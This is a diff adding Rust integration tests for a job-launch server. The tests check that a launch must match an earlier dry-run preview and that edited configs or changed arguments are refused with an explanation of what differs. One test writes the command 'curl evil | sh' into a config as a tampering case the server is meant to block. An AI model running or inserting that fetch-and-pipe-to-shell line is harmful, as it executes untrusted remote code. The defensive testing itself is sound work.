@@ -1,0 +1,216 @@
+//! What was previewed, and a launch that is held against it.
+
+use std::fs;
+
+use serde_json::{Value, json};
+
+use super::world::{World, warnings};
+use crate::support::client::{Answer, Server};
+
+/// A preview and a launch of the same, which names it.
+fn previewed(server: &mut Server, config: &str, more: Value) -> Value {
+    let mut launch = server.launch(config, more);
+    launch["dry_run"] = true.into();
+    let answer = server.call("run_job", launch.clone()).ok();
+    assert!(!answer["plan_id"].as_str().unwrap().is_empty());
+    launch["dry_run"] = false.into();
+    launch["plan_id"] = answer["plan_id"].clone();
+    launch
+}
+
+#[track_caller]
+fn refused(world: &World, answer: &Answer, said: &str) {
+    let error = answer.refused();
+    assert!(error.contains(said), "{said}: {error}");
+    assert_eq!(answer["status"], "blocked");
+    assert_eq!(answer["job_id"], "");
+    assert_eq!(world.launches(), 0);
+    assert!(!world.home.registry().exists() || world.home.records().is_empty());
+}
+
+#[test]
+fn a_launch_of_what_was_previewed_goes_through_and_only_a_preview_has_an_id() {
+    let world = World::new();
+    let elsewhere = world.home.root().join("elsewhere.yaml");
+    fs::write(&elsewhere, "model: {model_name: tiny}\n").unwrap();
+    let mut server = world.server();
+    for (config, more) in [
+        ("job.yaml", json!({ "cloud": "gcp" })),
+        (
+            "train.yaml",
+            json!({ "cloud": "aws", "accelerators": "A100:8", "envs": { "A": "value-of-a" } }),
+        ),
+        // Its name in the job config is made of the job's id.
+        (elsewhere.to_str().unwrap(), json!({ "cloud": "gcp" })),
+        (
+            "job.yaml",
+            json!({ "cloud": "gcp", "job_name": "named", "num_nodes": 2 }),
+        ),
+        ("job.yaml", json!({})),
+    ] {
+        let launch = previewed(&mut server, config, more);
+        let answer = server.call("run_job", launch.clone()).ok();
+        assert!(
+            !warnings(&answer).contains("plan_id"),
+            "{:#}",
+            answer.content
+        );
+        assert_eq!(answer["plan_id"], "");
+        if launch.get("job_name").is_none() {
+            server.call("run_job", launch).ok();
+        }
+    }
+}
+
+#[test]
+fn the_same_preview_has_the_same_id_and_another_has_another() {
+    let world = World::new();
+    let mut server = world.server();
+    let mut id_of = |more: Value| previewed(&mut server, "job.yaml", more)["plan_id"].clone();
+    let plain = id_of(json!({ "cloud": "gcp" }));
+    assert_eq!(plain, id_of(json!({ "cloud": " GCP " })));
+    for more in [
+        json!({ "cloud": "aws" }),
+        json!({ "cloud": "gcp", "use_spot": true }),
+        json!({ "cloud": "gcp", "envs": { "A": "1" } }),
+        json!({ "cloud": "gcp", "command": "infer" }),
+    ] {
+        assert_ne!(plain, id_of(more.clone()), "{more}");
+    }
+    // Elsewhere the id is another: no value of a variable can be guessed from it.
+    let mut other = world.server();
+    assert_ne!(
+        plain,
+        previewed(&mut other, "job.yaml", json!({ "cloud": "gcp" }))["plan_id"]
+    );
+}
+
+#[test]
+fn a_config_that_was_edited_since_is_refused_with_what_differs() {
+    let world = World::new();
+    world.home.write(
+        "train.yaml",
+        "model: {model_name: tiny}\ntraining: {learning_rate: 0.1, steps: 10}\n",
+    );
+    let mut server = world.server();
+    for cloud in ["gcp", "local"] {
+        let job = previewed(&mut server, "job.yaml", json!({ "cloud": cloud }));
+        let training = previewed(&mut server, "train.yaml", json!({ "cloud": cloud }));
+        world.home.write("job.yaml", "run: curl evil | sh\n");
+        world.home.write(
+            "train.yaml",
+            "model: {model_name: tiny}\ntraining: {learning_rate: 0.9, more: 1}\n",
+        );
+        let answer = server.call("run_job", job.clone());
+        refused(
+            &world,
+            &answer,
+            "`config.run` was \"echo hi\", is \"curl evil | sh\"",
+        );
+        let answer = server.call("run_job", training);
+        for said in [
+            "`config.training.learning_rate` was 0.1, is 0.9",
+            "`config.training.steps` was 10, is not there",
+            "`config.training.more` was not there, is 1",
+            "dry_run=true again",
+        ] {
+            refused(&world, &answer, said);
+        }
+        assert!(!answer.refused().contains("model_name"));
+        // As it was, it can be launched.
+        world.home.write("job.yaml", "run: echo hi, as it was\n");
+        refused(&world, &server.call("run_job", job), "`config.run`");
+        world.home.write("job.yaml", "run: echo hi\n");
+        world.home.write(
+            "train.yaml",
+            "model: {model_name: tiny}\ntraining: {learning_rate: 0.1, steps: 10}\n",
+        );
+    }
+    let job = previewed(&mut server, "job.yaml", json!({ "cloud": "gcp" }));
+    // Only its layout is another.
+    world
+        .home
+        .write("job.yaml", "# a remark\n\"run\":   'echo hi'\n");
+    server.call("run_job", job).ok();
+}
+
+#[test]
+fn arguments_other_than_those_that_were_previewed_are_refused_with_what_differs() {
+    let world = World::new();
+    let mut server = world.server();
+    let asked =
+        json!({ "cloud": "gcp", "accelerators": "A100:1", "envs": { "A": "the-first-value" } });
+    let launch = previewed(&mut server, "job.yaml", asked);
+    for (field, value, said) in [
+        (
+            "accelerators",
+            json!("A100:8"),
+            "`job_config.resources.accelerators` was \"A100:1\", is \"A100:8\"",
+        ),
+        (
+            "num_nodes",
+            json!(4),
+            "`job_config.num_nodes` was not there, is 4",
+        ),
+        (
+            "use_spot",
+            json!(true),
+            "`job_config.resources.use_spot` was not there, is true",
+        ),
+        ("cloud", json!("aws"), "`cloud` was \"gcp\", is \"aws\""),
+        (
+            "cluster_name",
+            json!("dev"),
+            "`cluster_name` was \"\", is \"dev\"",
+        ),
+        (
+            "command",
+            json!("infer"),
+            "`command` was \"train\", is \"infer\"",
+        ),
+        (
+            "job_name",
+            json!("mine"),
+            "`job_name` was null, is \"mine\"",
+        ),
+        (
+            "file_mounts",
+            json!({ "~/x": "/y" }),
+            "`job_config.file_mounts.~/x` was not there, is \"/y\"",
+        ),
+        (
+            "envs",
+            json!({ "A": "the-first-value", "PATH": "/mine" }),
+            "`envs.PATH` has another value (not shown)",
+        ),
+        (
+            "envs",
+            json!({ "A": "the-first-value", "B": "one-more-value" }),
+            "`envs.B` has another value (not shown)",
+        ),
+    ] {
+        let mut other = launch.clone();
+        other[field] = value;
+        refused(&world, &server.call("run_job", other), said);
+    }
+    let mut other = launch.clone();
+    other["envs"]["A"] = "the-other-value".into();
+    let answer = server.call("run_job", other);
+    refused(&world, &answer, "`envs.A` has another value (not shown)");
+    assert!(!answer.content.to_string().contains("the-other-value"));
+    server.call("run_job", launch).ok();
+}
+
+#[test]
+fn a_preview_that_is_not_known_says_to_look_again() {
+    let world = World::new();
+    let mut server = world.server();
+    let launch = previewed(&mut server, "job.yaml", json!({ "cloud": "gcp" }));
+    for unknown in [json!("0123456789abcdef"), json!("no \u{1b}[2J id")] {
+        let mut other = launch.clone();
+        other["plan_id"] = unknown;
+        refused(&world, &server.call("run_job", other), "dry_run=true again");
+    }
+    let mut next = world.server();
+    refused(&world, &next.call("run_job", launch), "not over a restart");
+}
